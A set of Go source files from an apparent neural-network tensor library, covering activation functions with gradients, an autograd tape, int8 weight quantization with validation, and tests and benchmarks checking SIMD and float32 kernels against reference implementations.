	val := NewMatrix(a.Val.Rows, a.Val.Cols)
	for i, v := range a.Val.Data {
		val.Data[i] = math.Log(v)
	}
	var out *Tensor
	out = newNode("log", val, func() {
		if !a.needGrad {
			return
		}
		g := a.ensureGrad()
		for i := range g.Data {
			g.Data[i] += out.Grad.Data[i] / a.Val.Data[i]
		}
	}, a)
	return out
}

// Tanh applies the hyperbolic tangent elementwise.
func Tanh(a *Tensor) *Tensor {
	val := NewMatrix(a.Val.Rows, a.Val.Cols)
	for i, v := range a.Val.Data {
		val.Data[i] = math.Tanh(v)
	}
	var out *Tensor
	out = newNode("tanh", val, func() {
		if !a.needGrad {
			return
		}
		g := a.ensureGrad()
		for i := range g.Data {
			y := out.Val.Data[i]
			g.Data[i] += out.Grad.Data[i] * (1 - y*y)
		}
	}, a)
	return out
}

// Sigmoid applies the logistic function elementwise.
func Sigmoid(a *Tensor) *Tensor {
	val := NewMatrix(a.Val.Rows, a.Val.Cols)
	for i, v := range a.Val.Data {
		val.Data[i] = 1 / (1 + math.Exp(-v))
	}
	var out *Tensor
	out = newNode("sigmoid", val, func() {
		if !a.needGrad {
			return
		}
		g := a.ensureGrad()
		for i := range g.Data {
			y := out.Val.Data[i]
			g.Data[i] += out.Grad.Data[i] * y * (1 - y)
		}
	}, a)
	return out
}

// ReLU applies max(0, x) elementwise.
func ReLU(a *Tensor) *Tensor {
	val := NewMatrix(a.Val.Rows, a.Val.Cols)
	for i, v := range a.Val.Data {
		if v > 0 {
			val.Data[i] = v
		}
	}
	var out *Tensor
	out = newNode("relu", val, func() {
		if !a.needGrad {
			return
		}
		g := a.ensureGrad()
		for i := range g.Data {
			if a.Val.Data[i] > 0 {
				g.Data[i] += out.Grad.Data[i]
			}
		}
	}, a)
	return out
}

// geluConst is sqrt(2/pi), used by the tanh approximation of GELU.
var geluConst = math.Sqrt(2 / math.Pi)

// GELU applies the Gaussian error linear unit (tanh approximation, as in
// BERT) elementwise.
func GELU(a *Tensor) *Tensor {
	val := NewMatrix(a.Val.Rows, a.Val.Cols)
	for i, x := range a.Val.Data {
		u := geluConst * (x + 0.044715*x*x*x)
		val.Data[i] = 0.5 * x * (1 + math.Tanh(u))
	}
	var out *Tensor
	out = newNode("gelu", val, func() {
		if !a.needGrad {
			return
		}
		g := a.ensureGrad()
		for i := range g.Data {
			x := a.Val.Data[i]
			u := geluConst * (x + 0.044715*x*x*x)
			t := math.Tanh(u)
			du := geluConst * (1 + 3*0.044715*x*x)
			d := 0.5*(1+t) + 0.5*x*(1-t*t)*du
			g.Data[i] += out.Grad.Data[i] * d
		}
	}, a)
	return out
}

// Dropout zeroes each element with probability p during training and scales
// survivors by 1/(1-p) (inverted dropout). rng must be non-nil when p > 0.
// With p == 0 the input tensor is returned unchanged.
func Dropout(a *Tensor, p float64, rng randSource) *Tensor {
	if p <= 0 {
		return a
	}
	if p >= 1 {
		panic("tensor: dropout probability must be < 1")
	}
	keep := 1 - p
	mask := make([]float64, len(a.Val.Data))
	val := NewMatrix(a.Val.Rows, a.Val.Cols)
	for i, v := range a.Val.Data {
		if rng.Float64() < keep {
			mask[i] = 1 / keep
			val.Data[i] = v / keep
		}
	}
	var out *Tensor
	out = newNode("dropout", val, func() {
		if !a.needGrad {
			return
		}
		g := a.ensureGrad()
		for i := range g.Data {
			g.Data[i] += out.Grad.Data[i] * mask[i]
		}
	}, a)
	return out
}

// randSource is the subset of *math/rand.Rand the package needs; accepting
// an interface keeps determinism in the caller's hands.
type randSource interface {
	Float64() float64
}
