package tensor

import (
	"fmt"
	"math"
	"math/rand"
	"testing"
	"testing/quick"
)

// ---- SIMD kernels vs pure-Go oracles ----

func randSlice32(rng *rand.Rand, n int, scale float32) []float32 {
	out := make([]float32, n)
	for i := range out {
		out[i] = (rng.Float32()*2 - 1) * scale
	}
	return out
}

// TestF32MatVecAsmMatchesGo drives the assembly kernel across every strip
// width and tail combination and checks it against the pure-Go oracle.
// Association order differs between the two, so comparison is tolerant.
func TestF32MatVecAsmMatchesGo(t *testing.T) {
	if !haveSIMD {
		t.Skip("no AVX2/FMA on this host")
	}
	rng := rand.New(rand.NewSource(1))
	for _, k := range []int{1, 2, 3, 4, 5, 7, 8, 12, 16, 33, 48, 96} {
		for _, n := range []int{1, 2, 3, 4, 5, 7, 8, 11, 12, 16, 17, 31, 32, 33, 48, 63, 64, 96, 100} {
			a := randSlice32(rng, k, 1)
			b := randSlice32(rng, k*n, 1)
			init := randSlice32(rng, n, 1)
			want := append([]float32(nil), init...)
			got := append([]float32(nil), init...)
			f32MatVecGo(a, b, want)
			f32MatVecAsm(a, b, got)
			for j := range want {
				if diff := math.Abs(float64(want[j] - got[j])); diff > 1e-4*(1+math.Abs(float64(want[j]))) {
					t.Fatalf("K=%d N=%d out[%d]: asm %g, go %g", k, n, j, got[j], want[j])
				}
			}
		}
	}
}

// TestInt8MatVecKernelsMatchGo: integer arithmetic must agree exactly
// across every available backend on the shared blocked layout.
func TestInt8MatVecKernelsMatchGo(t *testing.T) {
	if !haveSIMD {
		t.Skip("no AVX2/FMA on this host")
	}
	rng := rand.New(rand.NewSource(2))
	for _, kPad := range []int{32, 64, 96, 3104} {
		for _, nPad := range []int{16, 32, 48, 96} {
			qa := make([]int16, kPad)
			for i := range qa {
				qa[i] = int16(rng.Intn(255) - 127)
			}
			wt := make([]int8, kPad*nPad)
			for i := range wt {
				wt[i] = int8(rng.Intn(255) - 127)
			}
			want := make([]int32, nPad)
			int8MatVecGo(qa, wt, want)

			got := make([]int32, nPad)
			int8MatVecAVX2(qa, wt, got)
			for j := range want {
				if want[j] != got[j] {
					t.Fatalf("AVX2 KPad=%d NPad=%d acc[%d]: asm %d, go %d", kPad, nPad, j, got[j], want[j])
				}
			}
			if haveVNNI {
				for i := range got {
					got[i] = 0
				}
				int8MatVecVNNI(qa, wt, got)
				for j := range want {
					if want[j] != got[j] {
						t.Fatalf("VNNI KPad=%d NPad=%d acc[%d]: asm %d, go %d", kPad, nPad, j, got[j], want[j])
					}
				}
			}
		}
	}
}

// TestExpGeluVectorKernels pins the vector exp/GELU against the scalar
// fast paths within float32 noise.
func TestExpGeluVectorKernels(t *testing.T) {
	if !haveSIMD {
		t.Skip("no AVX2/FMA on this host")
	}
	rng := rand.New(rand.NewSource(9))
	v := make([]float32, 1024)
	for i := range v {
		v[i] = (rng.Float32()*2 - 1) * 20
	}
	shift := float32(3.7)
	got := append([]float32(nil), v...)
	expShiftAsm(got, shift)
	for i, x := range v {
		want := math.Exp(float64(x - shift))
		if rel := math.Abs(float64(got[i])-want) / want; rel > 1e-5 {
			t.Fatalf("vexp(%g-%g) = %g, want %g", x, shift, got[i], want)
		}
	}

	gelu := append([]float32(nil), v...)
	gelu32Asm(gelu)
	for i, x := range v {
		u := math.Sqrt(2/math.Pi) * (float64(x) + 0.044715*float64(x)*float64(x)*float64(x))
		want := 0.5 * float64(x) * (1 + math.Tanh(u))
		if diff := math.Abs(float64(gelu[i]) - want); diff > 1e-4*(1+math.Abs(want)) {
			t.Fatalf("vgelu(%g) = %g, want %g", x, gelu[i], want)
		}
	}
}

// ---- fast transcendentals ----

func TestFastExp32Accuracy(t *testing.T) {
	for x := float32(-80); x <= 80; x += 0.0137 {
		want := math.Exp(float64(x))
		got := float64(fastExp32(x))
		rel := math.Abs(got-want) / want
		if rel > 2e-6 {
			t.Fatalf("fastExp32(%g) = %g, want %g (rel %g)", x, got, want, rel)
		}
	}
	if fastExp32(-100) != 0 {
		t.Fatalf("fastExp32(-100) = %g, want 0", fastExp32(-100))
	}
	if !math.IsInf(float64(fastExp32(100)), 1) {
		t.Fatalf("fastExp32(100) = %g, want +Inf", fastExp32(100))
	}
}

func TestFastTanh32Accuracy(t *testing.T) {
	for x := float32(-12); x <= 12; x += 0.0091 {
		want := math.Tanh(float64(x))
		got := float64(fastTanh32(x))
		if diff := math.Abs(got - want); diff > 2e-6 {
			t.Fatalf("fastTanh32(%g) = %g, want %g (diff %g)", x, got, want, diff)
		}
	}
}

// ---- int8 quantize → dequantize error bound (property test) ----

// quantRow is a quick.Generator-friendly random weight row wrapper: values
// span several magnitudes, including the degenerate all-zero column case.
type quantRow struct {
	Vals  []float64
	Scale float64
}

func (quantRow) Generate(rng *rand.Rand, size int) fmt.Stringer { return nil } // unused

func TestQuantizeDequantizeErrorBound(t *testing.T) {
	f := func(seed int64, rows8 uint8, cols8 uint8) bool {
		rng := rand.New(rand.NewSource(seed))
		rows := int(rows8%64) + 1
		cols := int(cols8%48) + 1
		m := NewMatrix(rows, cols)
		scale := math.Pow(10, float64(rng.Intn(7)-3)) // 1e-3 .. 1e3
		for i := range m.Data {
			m.Data[i] = (rng.Float64()*2 - 1) * scale
		}
		if rng.Intn(4) == 0 { // exercise an all-zero column
			zc := rng.Intn(cols)
			for i := 0; i < rows; i++ {
				m.Set(i, zc, 0)
			}
		}
		q := QuantizeMatrix(m)
		if err := q.CheckShape(rows, cols); err != nil {
			t.Logf("CheckShape: %v", err)
			return false
		}
		deq := q.Dequantize32()
		for j := 0; j < cols; j++ {
			// The documented bound: |deq - orig| ≤ scale_j/2 per element,
			// plus float32 representation slack on the product.
			bound := float64(q.Scales[j])/2 + 1e-6*scale
			for i := 0; i < rows; i++ {
				diff := math.Abs(float64(deq.Data[i*cols+j]) - m.At(i, j))
				if diff > bound {
					t.Logf("(%d,%d): orig %g deq %g diff %g > bound %g",
						i, j, m.At(i, j), deq.Data[i*cols+j], diff, bound)
					return false
				}
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Fatal(err)
	}
}

// ---- quantized linear kernel vs float64 reference ----

// TestInferQuantLinearAccuracy checks the full dynamic-quantization matmul
// against the float64 product within the analytic worst-case bound: with
// activation error |εx| ≤ rowScale/2 and weight error |εw| ≤ colScale/2
// per element, |err| ≤ K·(wMax·rowScale + xMax·colScale)/2 plus the cross
// term (negligible) and float32 slack.
func TestInferQuantLinearAccuracy(t *testing.T) {
	rng := rand.New(rand.NewSource(7))
	for _, dims := range [][3]int{{1, 32, 8}, {5, 48, 48}, {9, 48, 96}, {3, 96, 48}, {4, 33, 7}} {
		T, K, N := dims[0], dims[1], dims[2]
		wf := NewMatrix(K, N)
		for i := range wf.Data {
			wf.Data[i] = rng.NormFloat64() * 0.3
		}
		bias := NewMatrix(1, N)
		for i := range bias.Data {
			bias.Data[i] = rng.NormFloat64()
		}
		x64 := NewMatrix(T, K)
		for i := range x64.Data {
			x64.Data[i] = rng.NormFloat64()
		}
		want := NewMatrix(T, N)
		InferLinearInto(x64, wf, bias, want)

		q := QuantizeMatrix(wf)
		x32 := Narrow(x64)
		got := NewMatrix32(T, N)
		var qs QuantScratch
		InferQuantLinearInto(x32, q, Narrow(bias), got, &qs)

		for i := 0; i < T; i++ {
			xMax := 0.0
			for _, v := range x64.Row(i) {
				xMax = math.Max(xMax, math.Abs(v))
			}
			rowScale := xMax / 127
			for j := 0; j < N; j++ {
				colScale := float64(q.Scales[j])
				wMax := colScale * 127
				bound := float64(K) * (rowScale*wMax + colScale*xMax) / 2
				bound += 1e-3 // float32 slack
				diff := math.Abs(float64(got.Row(i)[j]) - want.Row(i)[j])
				if diff > bound {
					t.Fatalf("T%d K%d N%d out(%d,%d): int8 %g, f64 %g, diff %g > bound %g",
						T, K, N, i, j, got.Row(i)[j], want.Row(i)[j], diff, bound)
				}
			}
		}
	}
}

// TestCheckShapeRejectsOversizePad: a consistent but non-canonical pad
// must be rejected at validation time — the quantized-linear scratch is
// sized from the logical dims, so an oversize pad that slipped through
// would overrun it at score time.
func TestCheckShapeRejectsOversizePad(t *testing.T) {
	m := NewMatrix(48, 16)
	for i := range m.Data {
		m.Data[i] = float64(i%7) - 3
	}
	q := QuantizeMatrix(m)
	if err := q.CheckShape(48, 16); err != nil {
		t.Fatalf("canonical shape rejected: %v", err)
	}
	big := &Int8Matrix{
		Rows: q.Rows, Cols: q.Cols,
		KPad: q.KPad + int8KPadAlign, NPad: q.NPad,
		Data:   make([]int8, q.NPad*(q.KPad+int8KPadAlign)),
		Scales: q.Scales,
	}
	if err := big.CheckShape(48, 16); err == nil {
		t.Fatal("oversize KPad accepted")
	}
	wide := &Int8Matrix{
		Rows: q.Rows, Cols: q.Cols,
		KPad: q.KPad, NPad: q.NPad + int8NPadAlign,
		Data:   make([]int8, (q.NPad+int8NPadAlign)*q.KPad),
		Scales: q.Scales,
	}
	if err := wide.CheckShape(48, 16); err == nil {
		t.Fatal("oversize NPad accepted")
	}
}

// TestInferQuantLinearZeroRow: an all-zero activation row must produce
// exactly the bias.
func TestInferQuantLinearZeroRow(t *testing.T) {
	w := NewMatrix(16, 8)
	for i := range w.Data {
		w.Data[i] = float64(i%5) - 2
	}
	bias := NewMatrix(1, 8)
	for i := range bias.Data {
		bias.Data[i] = float64(i) + 0.25
	}
	q := QuantizeMatrix(w)
	x := NewMatrix32(1, 16)
	out := NewMatrix32(1, 8)
	var qs QuantScratch
	InferQuantLinearInto(x, q, Narrow(bias), out, &qs)
	for j, v := range out.Row(0) {
		if float64(v) != bias.Data[j] {
			t.Fatalf("out[%d] = %g, want bias %g", j, v, bias.Data[j])
		}
	}
}

// TestQuantScratchReuseAcrossWidths pins the pad-hygiene invariant: a
// narrow layer after a wide one must not see the wide layer's stale
// activation values in the pad region.
func TestQuantScratchReuseAcrossWidths(t *testing.T) {
	rng := rand.New(rand.NewSource(11))
	var qs QuantScratch
	wide := NewMatrix(96, 4)
	narrow := NewMatrix(48, 4)
	for i := range wide.Data {
		wide.Data[i] = rng.NormFloat64()
	}
	for i := range narrow.Data {
		narrow.Data[i] = rng.NormFloat64()
	}
	qw, qn := QuantizeMatrix(wide), QuantizeMatrix(narrow)
	xw := NewMatrix32(1, 96)
	for i := range xw.Data {
		xw.Data[i] = rng.Float32()*2 - 1
	}
	xn := NewMatrix32(1, 48)
	for i := range xn.Data {
		xn.Data[i] = rng.Float32()*2 - 1
	}
	out := NewMatrix32(1, 4)

	// Fresh-scratch reference for the narrow layer.
	want := NewMatrix32(1, 4)
	var fresh QuantScratch
	InferQuantLinearInto(xn, qn, nil, want, &fresh)

	InferQuantLinearInto(xw, qw, nil, out, &qs) // pollute [48,96) of qa
	InferQuantLinearInto(xn, qn, nil, out, &qs)
	for j := range want.Data {
		if want.Data[j] != out.Data[j] {
			t.Fatalf("reused scratch out[%d] = %g, fresh %g", j, out.Data[j], want.Data[j])
		}
	}
}

// ---- float32 kernels vs float64 golden ----

func TestInferKernels32MatchFloat64(t *testing.T) {
	rng := rand.New(rand.NewSource(3))
	T, H, FFN, heads := 11, 48, 96, 4
	lens := []int{4, 6, 1}

	x := NewMatrix(T, H)
	for i := range x.Data {
		x.Data[i] = rng.NormFloat64()
	}
	w := NewMatrix(H, FFN)
	for i := range w.Data {
		w.Data[i] = rng.NormFloat64() * 0.2
	}
	b := NewMatrix(1, FFN)
	for i := range b.Data {
		b.Data[i] = rng.NormFloat64() * 0.1
	}
	gamma := NewMatrix(1, H)
	beta := NewMatrix(1, H)
	for i := 0; i < H; i++ {
		gamma.Data[i] = 1 + 0.1*rng.NormFloat64()
		beta.Data[i] = 0.1 * rng.NormFloat64()
	}

	check := func(name string, want *Matrix, got *Matrix32, tol float64) {
		t.Helper()
		if want.Rows != got.Rows || want.Cols != got.Cols {
			t.Fatalf("%s: shape %dx%d vs %dx%d", name, want.Rows, want.Cols, got.Rows, got.Cols)
		}
		for i, wv := range want.Data {
			if diff := math.Abs(wv - float64(got.Data[i])); diff > tol*(1+math.Abs(wv)) {
				t.Fatalf("%s[%d]: f32 %g, f64 %g", name, i, got.Data[i], wv)
			}
		}
	}

	// Linear.
	want := NewMatrix(T, FFN)
	InferLinearInto(x, w, b, want)
	got := NewMatrix32(T, FFN)
	InferLinearInto32(Narrow(x), Narrow(w), Narrow(b), got)
	check("linear", want, got, 1e-4)

	// LayerNorm.
	wantLN := NewMatrix(T, H)
	InferLayerNormInto(x, gamma, beta, 1e-5, wantLN)
	gotLN := NewMatrix32(T, H)
	InferLayerNormInto32(Narrow(x), Narrow(gamma), Narrow(beta), 1e-5, gotLN)
	check("layernorm", wantLN, gotLN, 1e-4)

	// GELU.
	wantG := x.Clone()
	InferGELUInPlace(wantG)
	gotG := Narrow(x)
	InferGELUInPlace32(gotG)
	check("gelu", wantG, gotG, 1e-4)

	// Attention.
	q := NewMatrix(T, H)
	k := NewMatrix(T, H)
	v := NewMatrix(T, H)
	for i := range q.Data {
		q.Data[i] = rng.NormFloat64()
		k.Data[i] = rng.NormFloat64()
		v.Data[i] = rng.NormFloat64()
	}
	wantA := NewMatrix(T, H)
	scores := make([]float64, 36)
	InferAttentionInto(q, k, v, heads, lens, scores, wantA)
	gotA := NewMatrix32(T, H)
	d := H / heads
	scores32 := make([]float32, 36)
	kt := make([]float32, 6*d)
	vh := make([]float32, 6*d)
	InferAttentionInto32(Narrow(q), Narrow(k), Narrow(v), heads, lens, scores32, kt, vh, gotA)
	check("attention", wantA, gotA, 1e-4)

	// MeanPool widens straight into float64.
	wantP := NewMatrix(len(lens), H)
	InferMeanPoolInto(x, lens, wantP, 0)
	gotP := NewMatrix(len(lens), H)
	InferMeanPoolInto32(Narrow(x), lens, gotP, 0)
	for i, wv := range wantP.Data {
		if diff := math.Abs(wv - gotP.Data[i]); diff > 1e-5*(1+math.Abs(wv)) {
			t.Fatalf("meanpool[%d]: f32 %g, f64 %g", i, gotP.Data[i], wv)
		}
	}
}

// ---- micro-benchmarks for the kernel rungs ----

func benchLinear(b *testing.B, run func(x *Matrix32, i int)) {
	rng := rand.New(rand.NewSource(5))
	x := NewMatrix32(256, 48)
	for i := range x.Data {
		x.Data[i] = rng.Float32()*2 - 1
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		run(x, i)
	}
}

func BenchmarkLinearF64(b *testing.B) {
	rng := rand.New(rand.NewSource(5))
	w := NewMatrix(48, 96)
	for i := range w.Data {
		w.Data[i] = rng.NormFloat64() * 0.2
	}
	bias := NewMatrix(1, 96)
	x := NewMatrix(256, 48)
	for i := range x.Data {
		x.Data[i] = rng.NormFloat64()
	}
	out := NewMatrix(256, 96)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		InferLinearInto(x, w, bias, out)
	}
}

func BenchmarkLinearF32(b *testing.B) {
	rng := rand.New(rand.NewSource(5))
	w := NewMatrix(48, 96)
	for i := range w.Data {
		w.Data[i] = rng.NormFloat64() * 0.2
	}
	w32 := Narrow(w)
	bias := NewMatrix32(1, 96)
	out := NewMatrix32(256, 96)
	benchLinear(b, func(x *Matrix32, _ int) {
		InferLinearInto32(x, w32, bias, out)
	})
}

func BenchmarkLinearInt8(b *testing.B) {
	rng := rand.New(rand.NewSource(5))
	w := NewMatrix(48, 96)
	for i := range w.Data {
		w.Data[i] = rng.NormFloat64() * 0.2
	}
	q := QuantizeMatrix(w)
	bias := NewMatrix32(1, 96)
	out := NewMatrix32(256, 96)
	var qs QuantScratch
	benchLinear(b, func(x *Matrix32, _ int) {
		InferQuantLinearInto(x, q, bias, out, &qs)
	})
}
