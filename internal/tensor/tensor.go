package tensor

import (
	"fmt"
)

// Tensor is a node on the autograd tape: a matrix value plus, when gradients
// are required, an accumulated gradient and a closure that pushes the
// gradient to the node's parents.
type Tensor struct {
	// Val holds the node's value.
	Val *Matrix
	// Grad accumulates dLoss/dVal; allocated lazily.
	Grad *Matrix

	needGrad bool
	op       string
	parents  []*Tensor
	back     func()
}

// Var wraps a matrix as a differentiable leaf (a parameter or an input that
// needs gradients).
func Var(m *Matrix) *Tensor { return &Tensor{Val: m, needGrad: true, op: "var"} }

// Const wraps a matrix as a non-differentiable leaf.
func Const(m *Matrix) *Tensor { return &Tensor{Val: m, op: "const"} }

// Scalar returns a 1x1 constant tensor.
func Scalar(v float64) *Tensor {
	m := NewMatrix(1, 1)
	m.Data[0] = v
	return Const(m)
}

// NeedsGrad reports whether gradients flow into this tensor.
func (t *Tensor) NeedsGrad() bool { return t.needGrad }

// Op returns the name of the operation that produced the tensor.
func (t *Tensor) Op() string { return t.op }

// Rows and Cols expose the value's shape.
func (t *Tensor) Rows() int { return t.Val.Rows }

// Cols returns the number of columns of the value.
func (t *Tensor) Cols() int { return t.Val.Cols }

// Item returns the single element of a 1x1 tensor.
func (t *Tensor) Item() float64 {
	if t.Val.Rows != 1 || t.Val.Cols != 1 {
		panic(fmt.Sprintf("tensor: Item on %dx%d tensor", t.Val.Rows, t.Val.Cols))
	}
	return t.Val.Data[0]
}

// ensureGrad allocates the gradient buffer on first use.
func (t *Tensor) ensureGrad() *Matrix {
	if t.Grad == nil {
		t.Grad = NewMatrix(t.Val.Rows, t.Val.Cols)
	}
	return t.Grad
}

// ZeroGrad clears the accumulated gradient (keeps the buffer).
func (t *Tensor) ZeroGrad() {
	if t.Grad != nil {
		t.Grad.Zero()
	}
}

// newNode constructs an interior tape node. The node requires gradients iff
// any parent does; back is only invoked in that case.
func newNode(op string, val *Matrix, back func(), parents ...*Tensor) *Tensor {
	need := false
	for _, p := range parents {
		if p != nil && p.needGrad {
			need = true
			break
		}
	}
	t := &Tensor{Val: val, op: op, parents: parents, needGrad: need}
	if need {
		t.back = back
	}
	return t
}

// Backward runs reverse-mode differentiation from t, which must be a 1x1
// scalar (a loss). Gradients accumulate into every reachable tensor with
// NeedsGrad; call ZeroGrad on parameters between steps.
func (t *Tensor) Backward() error {
	if t.Val.Rows != 1 || t.Val.Cols != 1 {
		return fmt.Errorf("tensor: Backward requires a scalar, got %dx%d", t.Val.Rows, t.Val.Cols)
	}
	if !t.needGrad {
		return fmt.Errorf("tensor: Backward on a tensor with no gradient path")
	}
	order := topoSort(t)
	t.ensureGrad().Data[0] = 1
	for i := len(order) - 1; i >= 0; i-- {
		n := order[i]
		if n.back != nil && n.Grad != nil {
			n.back()
		}
	}
	return nil
}

// topoSort returns the reachable subgraph in topological order
// (parents before children) using an iterative DFS.
func topoSort(root *Tensor) []*Tensor {
	type frame struct {
		node *Tensor
		next int
	}
	var order []*Tensor
	visited := make(map[*Tensor]bool)
	stack := []frame{{node: root}}
	visited[root] = true
	for len(stack) > 0 {
		f := &stack[len(stack)-1]
		if f.next < len(f.node.parents) {
			p := f.node.parents[f.next]
			f.next++
			if p != nil && p.needGrad && !visited[p] {
				visited[p] = true
				stack = append(stack, frame{node: p})
			}
			continue
		}
		order = append(order, f.node)
		stack = stack[:len(stack)-1]
	}
	return order
}

// Detach returns a constant copy of t's value, cutting the graph.
func (t *Tensor) Detach() *Tensor { return Const(t.Val.Clone()) }
