package tensor

import (
	"fmt"
)

// Int8 weight format — the bottom rung of the precision ladder.
//
// Weights quantize once at load time, symmetrically per output channel
// (per column of the [in, out] weight matrix): column j stores
// q_j[k] = round(w[k][j] / Scales[j]) with Scales[j] = max_k|w[k][j]|/127.
// Symmetric quantization keeps zero exactly representable (no zero-point
// arithmetic in the inner loop) and per-channel scales bound the
// dequantization error of every stored weight by Scales[j]/2, i.e. at most
// max|w_·j|/254 ≈ 0.4% of the column's largest weight.
//
// Activations quantize dynamically per row with the same symmetric scheme,
// the matmul accumulates int8·int8 products in int32 (127·127·K overflows
// int32 only beyond K ≈ 133 000 — two orders of magnitude above any FFN
// width here), and the result dequantizes straight back into the float32
// activation path: out[i][j] = rowScale[i] · Scales[j] · Σ_k qa[i][k]·q_j[k].
//
// Storage is blocked for the accumulation kernels: output channels are
// grouped in blocks of 16, and within a block the weights of two
// consecutive k's are interleaved per channel —
//
//	Data[jb·KPad·16 + (k/2)·32 + (j mod 16)·2 + (k mod 2)]
//
// — so one 32-byte load carries channels j..j+15 for the k-pair, exactly
// the operand VPMADDWD (AVX2) and VPDPWSSD (AVX-512 VNNI) want against a
// broadcast activation pair, with no horizontal reduction anywhere. K pads
// to KPad (multiple of 32) and N to NPad (multiple of 16) with zeros;
// padded lanes contribute nothing. The same layout feeds the pure-Go
// fallback, so a quantized bundle is byte-portable across hosts.

// Layout quanta: weight rows pad to int8KPadAlign k's, channels to
// int8NPadAlign.
const (
	int8KPadAlign = 32
	int8NPadAlign = 16
)

// Int8Matrix is a logically Rows×Cols (input×output) weight matrix stored
// quantized in the blocked channel-pair layout above.
type Int8Matrix struct {
	Rows, Cols int
	KPad, NPad int
	Data       []int8
	Scales     []float32 // len Cols; dequantized(k,j) = float32(At(k,j)) * Scales[j]
}

// At returns the quantized weight for input k, output channel j.
func (q *Int8Matrix) At(k, j int) int8 {
	return q.Data[(j/int8NPadAlign)*q.KPad*int8NPadAlign+
		(k/2)*2*int8NPadAlign+(j%int8NPadAlign)*2+k%2]
}

// CheckShape validates the matrix against a logical rows×cols shape, for
// deserialization paths that must reject malformed payloads before use.
func (q *Int8Matrix) CheckShape(rows, cols int) error {
	switch {
	case q.Rows != rows || q.Cols != cols:
		return fmt.Errorf("tensor: int8 matrix is %dx%d, want %dx%d", q.Rows, q.Cols, rows, cols)
	// Padding must be exactly canonical: the quantized-linear scratch is
	// sized from the logical dims, so an oversize-but-consistent pad would
	// pass here and then overrun the scratch at score time.
	case q.KPad != (rows+int8KPadAlign-1)&^(int8KPadAlign-1):
		return fmt.Errorf("tensor: int8 matrix KPad %d invalid for %d rows", q.KPad, rows)
	case q.NPad != (cols+int8NPadAlign-1)&^(int8NPadAlign-1):
		return fmt.Errorf("tensor: int8 matrix NPad %d invalid for %d cols", q.NPad, cols)
	case len(q.Data) != q.NPad*q.KPad:
		return fmt.Errorf("tensor: int8 matrix holds %d weights, want %d", len(q.Data), q.NPad*q.KPad)
	case len(q.Scales) != cols:
		return fmt.Errorf("tensor: int8 matrix has %d scales, want %d", len(q.Scales), cols)
	}
	// Pad lanes must stay zero: they feed the accumulators.
	for j := 0; j < q.NPad; j++ {
		for k := 0; k < q.KPad; k++ {
			if (j < cols && k < rows) || q.At(k, j) == 0 {
				continue
			}
			return fmt.Errorf("tensor: int8 matrix has nonzero padding at (%d,%d)", k, j)
		}
	}
	return nil
}

// QuantizeMatrix quantizes a float64 weight matrix ([in, out] row-major)
// to the blocked int8 form with symmetric per-column scales. An all-zero
// column gets scale 0 and quantizes to zeros (dequantizing to exactly 0).
func QuantizeMatrix(m *Matrix) *Int8Matrix {
	kPad := (m.Rows + int8KPadAlign - 1) &^ (int8KPadAlign - 1)
	nPad := (m.Cols + int8NPadAlign - 1) &^ (int8NPadAlign - 1)
	q := &Int8Matrix{
		Rows:   m.Rows,
		Cols:   m.Cols,
		KPad:   kPad,
		NPad:   nPad,
		Data:   make([]int8, nPad*kPad),
		Scales: make([]float32, m.Cols),
	}
	maxAbs := make([]float64, m.Cols)
	for i := 0; i < m.Rows; i++ {
		row := m.Row(i)
		for j, v := range row {
			if v < 0 {
				v = -v
			}
			if v > maxAbs[j] {
				maxAbs[j] = v
			}
		}
	}
	inv := make([]float64, m.Cols)
	for j, ma := range maxAbs {
		if ma == 0 {
			continue
		}
		q.Scales[j] = float32(ma / 127)
		inv[j] = 127 / ma
	}
	for k := 0; k < m.Rows; k++ {
		row := m.Row(k)
		for j, v := range row {
			q.Data[(j/int8NPadAlign)*kPad*int8NPadAlign+
				(k/2)*2*int8NPadAlign+(j%int8NPadAlign)*2+k%2] = roundToInt8(v * inv[j])
		}
	}
	return q
}

// roundToInt8 rounds half away from zero and clamps to [-127, 127] (the
// symmetric range; -128 is never produced so |q| ≤ 127 holds everywhere).
func roundToInt8(x float64) int8 {
	if x >= 0 {
		x += 0.5
		if x > 127 {
			return 127
		}
		return int8(x)
	}
	x -= 0.5
	if x < -127 {
		return -127
	}
	return int8(x)
}

// Dequantize32 expands the quantized weights back to the logical [in, out]
// float32 matrix — the reference the quantized kernel is tested against,
// and the error-bound witness: every element differs from the original by
// at most Scales[j]/2.
func (q *Int8Matrix) Dequantize32() *Matrix32 {
	out := NewMatrix32(q.Rows, q.Cols)
	for k := 0; k < q.Rows; k++ {
		for j := 0; j < q.Cols; j++ {
			out.Data[k*q.Cols+j] = float32(q.At(k, j)) * q.Scales[j]
		}
	}
	return out
}

// QuantScratch is the caller-owned working memory of the quantized linear
// kernel: the current activation row quantized to int8 range (widened to
// int16, the accumulation kernels' operand width) and the int32
// accumulator row. Sized by EnsureQuant for the widest K (input) and N
// (output) the caller will see.
type QuantScratch struct {
	qa  []int16
	acc []int32
}

// EnsureQuant grows the scratch to serve matmuls with inputs up to k wide
// and outputs up to n wide, both rounded up to the kernel layout quanta.
// Pad lanes of the activation buffer stay zero.
func (s *QuantScratch) EnsureQuant(k, n int) {
	kPad := (k + int8KPadAlign - 1) &^ (int8KPadAlign - 1)
	nPad := (n + int8NPadAlign - 1) &^ (int8NPadAlign - 1)
	if len(s.qa) < kPad {
		s.qa = make([]int16, kPad)
	}
	if len(s.acc) < nPad {
		s.acc = make([]int32, nPad)
	}
}

// InferQuantLinearInto computes out = x·w + bias with int8 arithmetic:
// each float32 activation row is symmetrically quantized to int8 range
// with its own dynamic scale, multiplied against the pre-quantized weights
// with int32 accumulation, and dequantized into float32 with the fused
// row×column scale. bias (float32, may be nil) is added after the matmul,
// matching the float paths' operation order.
func InferQuantLinearInto(x *Matrix32, w *Int8Matrix, bias *Matrix32, out *Matrix32, s *QuantScratch) {
	if x.Cols != w.Rows || out.Rows != x.Rows || out.Cols != w.Cols {
		panic(fmt.Sprintf("tensor: InferQuantLinear shapes %dx%d · %dx%d -> %dx%d",
			x.Rows, x.Cols, w.Rows, w.Cols, out.Rows, out.Cols))
	}
	if bias != nil && (bias.Rows != 1 || bias.Cols != out.Cols) {
		panic(fmt.Sprintf("tensor: InferQuantLinear bias %dx%d for %d-wide output",
			bias.Rows, bias.Cols, out.Cols))
	}
	K, N := w.Rows, w.Cols
	s.EnsureQuant(K, N)
	qa := s.qa[:w.KPad]
